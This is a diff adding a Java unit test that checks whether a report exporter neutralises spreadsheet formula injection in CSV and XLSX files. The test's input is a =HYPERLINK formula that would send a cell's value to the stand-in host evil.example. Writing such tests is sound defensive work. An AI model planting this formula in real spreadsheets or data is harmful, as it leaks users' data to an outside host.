@@ -78,6 +78,25 @@ class ReportFilesTest {
         assertThat(ReportFiles.fileName(REPORT, "csv")).isEqualTo("tram-so-xa-hong-quang-q4-2026.csv");
     }
 
+    @Test
+    void a_village_named_as_a_formula_is_text_in_both_files() throws Exception {
+        String hyperlink = "=HYPERLINK(\"http://evil.example/?\"&A2,\"Thôn Trà Phương\")";
+        Report report = new Report(REPORT.area(), REPORT.period(), List.of(new ReportRow("Hưng Yên", "Xã Hồng Quang", hyperlink, A)),
+                A, "lanhdao.hongquang", REPORT.madeAt(), REPORT.dataAsOf());
+        ByteArrayOutputStream csv = new ByteArrayOutputStream();
+        ReportFiles.csv(report, csv);
+        ByteArrayOutputStream xlsx = new ByteArrayOutputStream();
+        ReportFiles.xlsx(report, xlsx);
+
+        assertThat(csv.toString(StandardCharsets.UTF_8).lines().toList().get(7))
+                .startsWith("Hưng Yên,Xã Hồng Quang,\"'=HYPERLINK(").contains(",2,3,66.7,");
+        try (Workbook book = new XSSFWorkbook(new ByteArrayInputStream(xlsx.toByteArray()))) {
+            var cell = book.getSheetAt(0).getRow(ReportFiles.HEADER_ROW + 1).getCell(2);
+            assertThat(cell.getCellType()).isEqualTo(org.apache.poi.ss.usermodel.CellType.STRING);
+            assertThat(cell.getStringCellValue()).isEqualTo(hyperlink);
+        }
+    }
+
     private static String text(Row row, int cell) {
         return row.getCell(cell).getStringCellValue();
     }
